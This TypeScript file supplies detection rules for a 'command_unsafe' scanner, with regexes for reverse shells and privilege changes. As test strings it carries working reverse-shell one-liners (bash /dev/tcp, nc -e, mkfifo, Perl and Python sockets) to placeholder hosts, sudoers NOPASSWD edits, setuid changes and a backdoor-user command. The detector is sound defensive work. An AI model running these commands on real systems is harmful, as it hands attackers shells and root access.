// Data: part of the base rule table of the `command_unsafe` detector (`rules.ts` joins the parts).
import type { DocumentedRule } from "../rule-set.js";
import { commandRule as r } from "./command-rule.js";

/** Base `command_unsafe` rules: reverse and bind shells, privilege changes. */
export const BASE_SHELL_PRIVILEGE_RULES: readonly DocumentedRule[] = [
  // Reverse shells and bind shells
  r("reverse_shell", /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/g, "critical", 0.9, {
    id: "command_unsafe.reverse_shell_dev_tcp",
    meaning: "Hands a shell to a remote host: `/dev/tcp/10.0.0.1/4444` and the like.",
    matches: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ignores: [
      "for port in {1..65535}; do (2>/dev/null echo >/dev/tcp/192.168.1.1/$port) && echo port $port is open ; done",
    ],
  }),
  r(
    "reverse_shell",
    /\b(?:nc|ncat|netcat|nc\.traditional)\b[^\n|;]{0,256}\s-[a-zA-Z]*[ec]\s*\/?\S{0,256}(?:sh|bash|cmd)\b/g,
    "critical",
    0.95,
    {
      id: "command_unsafe.reverse_shell_nc_sh",
      meaning: "Hands a shell to a remote host: `nc -e /bin/sh 10.0.0.1 4444` and the like.",
      matches: ["nc -e /bin/sh 10.0.0.1 4444"],
      ignores: ["nc -zv example.com 443"],
    },
  ),
  r(
    "reverse_shell",
    /\bmkfifo\b[^\n]{0,256}\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/g,
    "critical",
    0.9,
    {
      id: "command_unsafe.reverse_shell_mkfifo_nc",
      meaning: "Hands a shell to a remote host: `mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc` and the like.",
      matches: [
        "'.__class__.__mro__[1].__subclasses__()[407] ('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc localhost 1337 >/tmp/f',shell=True,stdout=-1).communicate()",
      ],
      ignores: ["mkfifo /tmp/build-pipe"],
    },
  ),
  r("reverse_shell", /\bsocat\b[^\n]{0,256}\bexec:/gi, "critical", 0.9, {
    id: "command_unsafe.reverse_shell_socat_exec",
    meaning: "Hands a shell to a remote host: `socat tcp-connect:10.0.0.1:4444 exec:/bin/bas…` and the like.",
    matches: ["socat tcp-connect:10.0.0.1:4444 exec:/bin/bash,pty,stderr"],
    ignores: ["sudo socat - TCP-LISTEN:8080,fork"],
  }),
  r(
    "reverse_shell",
    /\bsocket\.socket\b[^\n]{0,256}(?:\bconnect\b[^\n]{0,256})?(?:subprocess|os\.dup2|pty\.spawn)|\bos\.dup2\s*\([^\n]{0,256}pty\.spawn/g,
    "critical",
    0.9,
    {
      id: "command_unsafe.reverse_shell_socket_socket",
      meaning:
        "Hands a shell to a remote host: `socket.socket();s.connect(('1.2.3.4',9));os.d…` and the like.",
      matches: [
        "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh'])",
      ],
      ignores: ["subprocess.run("],
    },
  ),
  r("reverse_shell", /\bpty\.spawn\s*\(\s*["']\/bin\/(?:ba)?sh/g, "high", 0.85, {
    id: "command_unsafe.reverse_shell_pty_spawn",
    meaning: "Hands a shell to a remote host: `pty.spawn('/bin/sh` and the like.",
    matches: ["$which_python -c \"import pty;pty.spawn('/bin/sh')\""],
    ignores: ["echo $ART |/bin/sh"],
  }),
  r("reverse_shell", /\buse\s+Socket;[^\n]{0,256}(?:exec|open\s*\(\s*STDIN)/g, "critical", 0.9, {
    id: "command_unsafe.reverse_shell_socket_exec",
    meaning:
      'Hands a shell to a remote host: `perl -e \'use Socket;$i="10.0.0.1";$p=4444;soc…` and the like.',
    matches: [
      'perl -e \'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
    ],
    ignores: ["perl -MIO::Socket -e 'print 1'"],
  }),
  r("reverse_shell", /\b(?:telnet|nc|ncat)\s+\S+\s+\d+\s*\|\s*\/bin\/(?:ba)?sh\s*\|/g, "critical", 0.9, {
    id: "command_unsafe.reverse_shell_bin_bash",
    meaning: "Hands a shell to a remote host: `telnet 10.0.0.1 4444 | /bin/bash | telnet 10.…` and the like.",
    matches: ["telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445"],
    ignores: ["telnet example.com 80"],
  }),
  r("reverse_shell", /\b(?:awk|gawk)\b[^\n]{0,256}\/inet\/tcp\//g, "critical", 0.9, {
    id: "command_unsafe.reverse_shell_inet_tcp",
    meaning:
      'Hands a shell to a remote host: `awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; …` and the like.',
    matches: ['awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; print "id" |& s}\''],
    ignores: ["czkawka_cli {{[-h|--help]}}"],
  }),
  r(
    "reverse_shell",
    /\b(?:awk|perl|ruby|lua|php|vim?|emacs|cpan|busybox|find|less|man|gdb|tar|zip|env)\b[^\n]{0,256}(?:system\s*\(|exec\s*\(?|\bterm\b|-exec)\s*\(?\s*["']\/bin\/(?:ba)?sh\b/g,
    "high",
    0.8,
    {
      id: "command_unsafe.reverse_shell_bin_bash_2",
      meaning: "Hands a shell to a remote host: `awk 'BEGIN {system(\"/bin/sh` and the like.",
      matches: ["awk 'BEGIN {system(\"/bin/sh &\")}'"],
      ignores: ["awk '{print $1}' access.log"],
    },
  ),
  r("reverse_shell", /\bbusybox\s+(?:ba)?sh\s*&/g, "high", 0.8, {
    id: "command_unsafe.reverse_shell_busybox_bash",
    meaning: "Hands a shell to a remote host: `busybox sh &` and the like.",
    matches: ["busybox sh &"],
    ignores: ["bsub -I bash"],
  }),
  // Privilege changes
  r(
    "privilege",
    /\bchmod\s+(?:-[a-zA-Z]+\s+)?(?:[ugoa]*\+[rwx]*s[rwx]*|[0-7]?[4-7][0-7]{3})\s/g,
    "high",
    0.85,
    {
      id: "command_unsafe.privilege_chmod",
      meaning: "Gains or grants elevated privileges: `chmod u+s` and the like.",
      matches: ["chmod u+s /bin/bash "],
      ignores: ["chmod +x /tmp/art.sh"],
    },
  ),
  r(
    "privilege",
    /(?:>>?|tee\s+(?:-a\s+)?)\s*\/etc\/(?:sudoers(?:\.d\/\S{0,256})?|passwd|shadow|group|gshadow)\b/g,
    "critical",
    0.9,
    {
      id: "command_unsafe.privilege_etc_sudoers",
      meaning: "Gains or grants elevated privileges: `>> /etc/sudoers` and the like.",
      matches: ["echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
      ignores: ["sudo cat /etc/sudoers"],
    },
  ),
  r("privilege", /\bNOPASSWD\s*:\s*ALL\b/g, "critical", 0.9, {
    id: "command_unsafe.privilege_nopasswd_all",
    meaning: "Gains or grants elevated privileges: `NOPASSWD: ALL` and the like.",
    matches: ["echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
    ignores: ["sudo -k"],
  }),
  r(
    "privilege",
    /\busermod\s+(?:-[a-zA-Z]+\s+){0,8}-[a-zA-Z]*G\s+\S{0,256}(?:sudo|wheel|admin|root|docker)\b|\b(?:useradd|adduser|pw\s+useradd)\b[^\n]{0,256}(?:-o\s+-u\s*0|-u\s*0\b|-g\s+(?:0|root|wheel|sudo|admin))|\bdseditgroup\b[^\n]{0,256}\badmin\b/g,
    "high",
    0.85,
    {
      id: "command_unsafe.privilege_usermod_sudo",
      meaning: "Gains or grants elevated privileges: `pw useradd art -g wheel` and the like.",
      matches: ["pw useradd art -g wheel -s /bin/sh"],
      ignores: ["sudo usermod {{[-L|--lock]}} {{username}}"],
    },
  ),
  r(
    "privilege",
    /\bsetcap\b[^\n]{0,256}cap_(?:setuid|setgid|sys_admin|dac_override|sys_ptrace)/g,
    "high",
    0.85,
    {
      id: "command_unsafe.privilege_cap_setuid",
      meaning: "Gains or grants elevated privileges: `setcap cap_setuid` and the like.",
      matches: ["sudo setcap cap_setuid=ep /tmp/cap"],
      ignores: ["setcap -r {{path/to/file}}"],
    },
  ),
  r("privilege", /\bsudo\s+(?:su\b|-i\b|-s\b|bash\b|sh\b)|\bsu\s+(?:-\s+)?root\b/g, "medium", 0.6, {
    id: "command_unsafe.privilege_sudo_su",
    meaning: "Gains or grants elevated privileges: `sudo bash` and the like.",
    matches: ["curl -fsSL https://x.sh/install | sudo bash"],
    ignores: ["sudo extrace"],
  }),
  r(
    "privilege",
    /\b(?:passwd\s+root|dsenableroot|sysadminctl\b[^\n]{0,256}-(?:admin|guestAccount\s+on))\b/g,
    "high",
    0.8,
    {
      id: "command_unsafe.privilege_passwd_root",
      meaning: "Gains or grants elevated privileges: `dsenableroot` and the like.",
      matches: ["dsenableroot #current user"],
      ignores: [
        'useradd -g 0 -M -d /root -s /bin/bash butter\nif [ $(cat /etc/os-release | grep -i \'Name="ubuntu"\') ]; then echo "butter:BetterWithButter" | sudo chpasswd; else echo "BetterWithButter" | passwd --stdin butter; fi;\n',
      ],
    },
  ),
  r(
    "privilege",
    /\b(?:insmod|modprobe)\s+(?!-[lrn]\b)\S+|\/etc\/ld\.so\.preload|\bLD_PRELOAD=\S+/g,
    "high",
    0.8,
    {
      id: "command_unsafe.privilege_insmod",
      meaning: "Gains or grants elevated privileges: `modprobe zram` and the like.",
      matches: ["sudo modprobe zram"],
      ignores: ["lsmod | grep zram"],
    },
  ),
];
